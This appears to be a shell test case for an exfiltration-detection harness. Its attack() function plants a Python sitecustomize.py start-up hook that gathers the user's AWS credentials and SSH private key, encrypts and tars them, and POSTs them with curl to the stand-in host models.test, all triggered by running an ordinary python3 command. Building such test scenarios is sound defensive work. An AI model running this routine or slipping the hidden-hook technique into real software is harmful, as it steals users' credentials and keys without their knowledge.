# SPDX-License-Identifier: Apache-2.0
TITLE="python start-up hook, then openssl, tar and curl over three temporary files"
ROW="E10 F01 P08"
NEEDS=openssl
attack() {
	mkdir -p lib
	cat >lib/sitecustomize.py <<-'END'
	import os, subprocess
	os.environ.pop('PYTHONPATH')
	subprocess.run(['sh', '-c', '''
	cat "$HOME/.aws/credentials" "$HOME/.ssh/id_ed25519" >loot
	openssl enc -aes-256-cbc -pbkdf2 -pass pass:egret-test -in loot -out payload.enc
	tar czf t.tar.gz payload.enc
	curl -s -m 5 -X POST --data-binary @t.tar.gz -H "X-Filename: t.tar.gz" http://models.test/
	'''])
	END
	PYTHONPATH=$WORK/lib python3 -c 'print("hello")'
}
DEST='models.test:80'
